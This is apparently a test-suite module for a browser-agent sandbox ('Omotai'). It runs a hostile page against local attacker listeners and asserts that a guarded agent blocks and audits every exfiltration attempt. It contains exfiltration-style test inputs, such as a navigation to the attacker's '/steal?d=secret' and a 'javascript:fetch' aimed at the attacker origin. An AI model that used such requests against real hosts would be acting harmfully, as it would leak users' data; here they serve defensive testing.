/**
 * The attack suite's world and runs, shared by the files that split it (each file runs beside
 * the others): a hostile page on 127.0.0.1 tries every way we know to get bytes to an
 * attacker on 127.0.0.3 (and 127.0.0.4). The control run in a plain, unguarded Chromium
 * proves each attempt really reaches the attacker; the same attempts through Omotai must
 * leave the attacker at zero TCP connections and zero UDP datagrams, each with its deny in
 * the audit.
 *
 * @module
 */
import assert from "node:assert/strict";
import { verifyAudit } from "../../runtime/store/sqlite_audit_store.ts";
import { verifyJsonl } from "../../runtime/audit/verify.ts";
import { JsonlMirror } from "../../runtime/audit/jsonl_mirror.ts";
import { openDatabase } from "../../runtime/store/database.ts";
import { type Attacker, startAttacker } from "../../runtime/eval/attacker.ts";
import { ATTACKS, type HostileSite, serveHostileSite } from "../../runtime/eval/hostile_site.ts";
// @ts-types="npm:@modelcontextprotocol/sdk@1.32.2/client/index"
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import {
  agentTransport,
  ANSWER_BOUND_MS,
  eventually,
  refOf,
  startTestRuntime,
  TestClient,
} from "./harness.ts";
import { testBrowser } from "./operator_browser.ts";
import { type CdpSession, findBrowser, isHeadlessShell } from "../../cdp/mod.ts";
import type { AuditRow } from "../../runtime/store/audit_row.ts";
import type { GuardPause } from "../../runtime/egress/request_guard.ts";

/** Both attackers and the hostile site that aims at them. */
export interface AttackWorld extends AsyncDisposable {
  att: Attacker;
  att2: Attacker;
  site: HostileSite;
}

/** Starts both attackers and the hostile site. */
export async function attackWorld(): Promise<AttackWorld> {
  const att = await startAttacker("127.0.0.3");
  const att2 = await startAttacker("127.0.0.4");
  const site = serveHostileSite(att.origin, att2.origin);
  return {
    att,
    att2,
    site,
    async [Symbol.asyncDispose]() {
      await site[Symbol.asyncDispose]();
      await att[Symbol.asyncDispose]();
      await att2[Symbol.asyncDispose]();
    },
  };
}

/** The runtime's default build. */
export const DEFAULT_BROWSER = findBrowser(Deno.env.get("OMOTAI_BROWSER"));
/** The full browser (the default build when only it is installed). */
export const FULL_BROWSER = findBrowser(Deno.env.get("OMOTAI_BROWSER"), { preferFull: true });
/** The runtime's default build, and the full browser when it is another. */
export const BUILDS = [...new Set([DEFAULT_BROWSER, FULL_BROWSER])];

/**
 * Attacks a build never makes by itself: the headless shell has no preconnect predictor, so a
 * `<link rel=preconnect>` opens nothing there even unguarded (the full browser does).
 */
export function neverMadeBy(executable: string): string[] {
  return isHeadlessShell(executable) ? ["preconnect"] : [];
}

/** Connections, request lines and datagrams: a request on a socket opened earlier counts too. */
export const hitsOf = (w: AttackWorld): number =>
  w.att.tcp + w.att.udp + w.att.lines.length + w.att2.tcp + w.att2.udp + w.att2.lines.length;

/**
 * How long to watch for an attempt that must not arrive: four times the slowest arrival of
 * the attempts that did arrive in the same run (the positive case, on the same machine and
 * load), and never under 5 s.
 */
export function quietWindowMs(arrivalsMs: readonly number[]): number {
  return Math.max(5_000, 4 * Math.max(0, ...arrivalsMs));
}

/**
 * Opens `url` (an attack's page) in the reused tab `page`, in front, and waits until that
 * document has loaded with its `go()`, up to {@link ANSWER_BOUND_MS}; false if it never does.
 * Some attacks navigate their own page (a ping's link, a redirect, a keepalive on leave), and
 * that navigation may start after ours and cancel it, or land over it: then ours is made
 * again. Go is never pressed on the page before.
 */
export async function openAttackPage(page: CdpSession, url: string): Promise<boolean> {
  const deadline = Date.now() + ANSWER_BOUND_MS;
  const state = async () =>
    (await page.send("Runtime.evaluate", {
      expression: `[location.href, document.readyState, typeof go]`,
      returnByValue: true,
    }).catch(() => undefined))?.result.value as [string, string, string] | undefined;
  while (Date.now() < deadline) {
    // In front, as a fresh tab would be: a popup of the attack before (window-open) would
    // leave it hidden, and a hidden page lays out nothing (css-url, object).
    await page.send("Page.bringToFront").catch(() => {});
    const nav = await page.send("Page.navigate", { url }).catch(() => undefined);
    if (!nav || nav.errorText) {
      await new Promise((r) => setTimeout(r, 50));
      continue;
    }
    let elsewhereSince: number | undefined;
    while (Date.now() < deadline) {
      const [href, ready, go] = await state() ?? [];
      if (href === url && ready === "complete" && go === "function") return true;
      // Settled on another document for 5 s (ours, had it won, would have committed by then
      // even on a loaded machine): a navigation of the page before won.
      if (href !== undefined && href !== url && ready === "complete") {
        elsewhereSince ??= Date.now();
        if (Date.now() - elsewhereSince > 5_000) break;
      } else elsewhereSince = undefined;
      await new Promise((r) => setTimeout(r, 50));
    }
  }
  return false;
}

/**
 * The control: each attack page in turn in one tab of a plain Chromium, Go pressed; the
 * attacks that did NOT reach the attacker. Navigating to the next attack ends the page before
 * it as closing its tab did (its workers, sockets and timers go with it), without a fresh tab
 * and renderer per attack. An attack expected to arrive is waited for up to
 * {@link ANSWER_BOUND_MS} (the wait costs only a failing run time); one the build never
 * makes is watched for {@link quietWindowMs} of the arrivals before it (they run last).
 */
export async function controlMisses(w: AttackWorld, executable: string): Promise<string[]> {
  await using chromium = await testBrowser({ prefix: "omotai-control-", executable });
  const browser = chromium.browser;
  const root = browser.connection.root;
  const never = neverMadeBy(executable);
  const order = [
    ...ATTACKS.filter((a) => !never.includes(a.name)),
    ...ATTACKS.filter((a) => never.includes(a.name)),
  ];
  const { targetId } = await root.send("Target.createTarget", { url: "about:blank" });
  const { sessionId } = await root.send("Target.attachToTarget", { targetId, flatten: true });
  const page = browser.connection.session(sessionId)!;
  const arrivals: number[] = [];
  const missed: string[] = [];
  try {
    await page.send("Page.enable");
    for (const attack of order) {
      const url = `${w.site.origin}/attack/${attack.name}`;
      assert.ok(await openAttackPage(page, url), `${attack.name}: its page did not load`);
      const before = hitsOf(w);
      const t0 = performance.now();
      await page.send("Runtime.evaluate", { expression: "go()", userGesture: true });
      const wait = never.includes(attack.name) ? quietWindowMs(arrivals) : ANSWER_BOUND_MS;
      if (await eventually(() => hitsOf(w) > before, wait)) {
        arrivals.push(performance.now() - t0);
      } else missed.push(attack.name);
    }
  } finally {
    await root.send("Target.closeTarget", { targetId }).catch(() => {});
  }
  return missed;
}

/** How a guarded run differs from the default: another build, or no network namespace. */
export interface GuardedOptions {
  browser?: string;
  /** No namespace: the browser's own flags alone keep it on the proxy (UDP included). */
  noNamespace?: boolean;
}

/** A runtime guarding the hostile site (read_only, `request_guard: pause`) and its agent. */
export async function guarded(
  w: AttackWorld,
  dataDir: string,
  pause: GuardPause = "all",
  options: GuardedOptions = {},
): Promise<{ runtime: Awaited<ReturnType<typeof startTestRuntime>>; c: TestClient }> {
  const runtime = await startTestRuntime(
    dataDir,
    `allowed_origins: [${w.site.origin}]\nread_only: true\nrequest_guard: ${pause}\n`,
    {
      audit: `${dataDir}/audit.jsonl`,
      ...options.browser ? { browser: options.browser } : {},
      ...options.noNamespace ? { isolation: { mode: "off" as const } } : {},
    },
  );
  const client = new Client({ name: "attack-suite", version: "0" });
  await client.connect(await agentTransport(runtime));
  return { runtime, c: new TestClient(client) };
}

function deniesFor(rows: AuditRow[], attackers: Attacker[]): AuditRow[] {
  return rows.filter((r) =>
    r.decision === "deny" &&
    attackers.some((a) => r.origin?.endsWith(`//${a.host}:${a.port}`))
  );
}

/** A guarded run: the world, the runtime guarding it and its agent. */
export interface GuardedRun {
  w: AttackWorld;
  runtime: Awaited<ReturnType<typeof startTestRuntime>>;
  c: TestClient;
}

/**
 * Every attack through Omotai: nothing reaches either attacker, each audited attack leaves a
 * deny naming the attacker (from its layer when every request is paused), the model hears of
 * the blocks by origin only, and the audit verifies. `before` runs first on the same runtime
 * and agent (a check that needs them as the attacks do, without a launch of its own); it
 * touches neither attacker, and what it leaves in the audit is no attacker's deny.
 */
export async function attackSuite(
  pause: GuardPause,
  options: GuardedOptions = {},
  before?: (run: GuardedRun) => Promise<unknown>,
): Promise<void> {
  await using w = await attackWorld();
  const dataDir = await Deno.makeTempDir({ prefix: "omotai-attack-" });
  const { runtime, c } = await guarded(w, dataDir, pause, options);
  const failures: string[] = [];
  const notices: string[] = [];
  try {
    await before?.({ w, runtime, c });
    // Agent actions the model might be talked into.
    const home = await c.call("browser_navigate", { url: `${w.site.origin}/` });
    assert.match(home.text, /# Hostile home/);
    const nav = await c.call("browser_navigate", { url: `${w.att.origin}/steal?d=secret` });
    assert.match(nav.text, /^denied: ORIGIN_NOT_ALLOWED/);
    const js = await c.call("browser_navigate", { url: `javascript:fetch("${w.att.origin}")` });
    assert.match(js.text, /^denied: SCHEME_NOT_ALLOWED/);
    const other = await c.call("browser_navigate", { url: `${w.att2.origin}/x` });
    assert.match(other.text, /^denied: ORIGIN_NOT_ALLOWED/);
    const click = await c.call("browser_click", {
      ref: refOf(home.text, /"Claim your prize" ->/),
    });
    assert.match(click.text, /^denied: LINK_ORIGIN_NOT_ALLOWED/);

    for (const attack of ATTACKS) {
      const t0 = performance.now();
      const start = (await runtime.audit.rows()).at(-1)!.seq;
      const page = await c.call("browser_navigate", {
        url: `${w.site.origin}/attack/${attack.name}`,
      });
      if (page.isError) {
        failures.push(`${attack.name}: could not open its page: ${page.text.slice(0, 200)}`);
        continue;
      }
      notices.push(...page.text.split("\n").filter((l) => l.startsWith("notice: blocked")));
      const t1 = performance.now();
      const go = await c.call("browser_click", { ref: refOf(page.text, /button "Go"/) });
      if (Deno.env.get("ATTACK_TRACE")) {
        console.log(
          `  navigate ${Math.round(t1 - t0)} ms, click ${Math.round(performance.now() - t1)} ms`,
        );
      }
      if (/^denied:/.test(go.text)) failures.push(`${attack.name}: the Go click was denied`);
      notices.push(...go.text.split("\n").filter((l) => l.startsWith("notice: blocked")));
      if (attack.audited) {
        const seen = await eventually(
          async () => deniesFor(await runtime.audit.rows(start), [w.att, w.att2]).length > 0,
        );
        if (!seen) failures.push(`${attack.name}: no deny row for the attacker in the audit`);
        const layers = deniesFor(await runtime.audit.rows(start), [w.att, w.att2]).map((r) =>
          r.source
        );
        // With documents paused only, the proxy stands where the request guard stood.
        if (attack.layer && pause === "all" && !layers.includes(attack.layer)) {
          failures.push(
            `${attack.name}: expected the ${attack.layer} layer to refuse it, saw ${layers}`,
          );
        }
      } else {
        await new Promise((r) => setTimeout(r, 1_500));
      }
      if (Deno.env.get("ATTACK_TRACE")) {
        console.log(`${attack.name}: ${Math.round(performance.now() - t0)} ms`);
      }
      if (hitsOf(w) > 0) {
        failures.push(
          `${attack.name}: the attacker was reached (tcp ${w.att.tcp + w.att2.tcp}, udp ${
            w.att.udp + w.att2.udp
          }): ${[...w.att.lines, ...w.att2.lines]}`,
        );
        break;
      }
    }
    // The model hears what was blocked, whichever layer blocked it, by origin only.
    const snap = await c.call("browser_snapshot");
    assert.doesNotMatch(snap.text, /secret/);
    const attackerOrigins = [w.att, w.att2].map((a) => `//${a.host}:${a.port}`);
    assert.ok(
      notices.some((n) =>
        /ORIGIN_NOT_ALLOWED/.test(n) && attackerOrigins.some((o) => n.includes(o))
      ),
      `no notice named an attacker: ${notices.join(" | ")}`,
    );
    assert.ok(notices.every((n) => !n.includes("secret") && !n.includes("?")), notices.join(" | "));

    const denies = deniesFor(await runtime.audit.rows(), [w.att, w.att2]);
    for (const row of denies) {
      assert.ok(
        ["ORIGIN_NOT_ALLOWED", "LINK_ORIGIN_NOT_ALLOWED", "PRIVATE_ADDRESS"].includes(row.reason!),
        `unexpected reason ${row.reason} for ${row.origin}`,
      );
      assert.ok(!JSON.stringify(row).includes("secret"), "audit rows carry no path or query");
    }
    assert.ok(denies.some((r) => r.source === "proxy"), "the proxy refused the WebSocket tunnel");
    if (pause === "all") {
      assert.ok(denies.some((r) => r.source === "request"), "the request guard refused requests");
    }
    assert.ok(denies.some((r) => r.source === "action"), "agent actions were refused");
  } finally {
    await c[Symbol.asyncDispose]();
    await runtime[Symbol.asyncDispose]();
  }
  try {
    assert.deepEqual(failures, []);
    assert.equal(w.att.tcp + w.att.udp + w.att2.tcp + w.att2.udp, 0);
    const db = openDatabase(`${dataDir}/omotai.db`);
    try {
      assert.deepEqual(verifyAudit(db).problems, []);
    } finally {
      db.close();
    }
    assert.deepEqual(verifyJsonl(JsonlMirror.files(`${dataDir}/audit.jsonl`)).problems, []);
  } finally {
    await Deno.remove(dataDir, { recursive: true }).catch(() => {});
  }
}
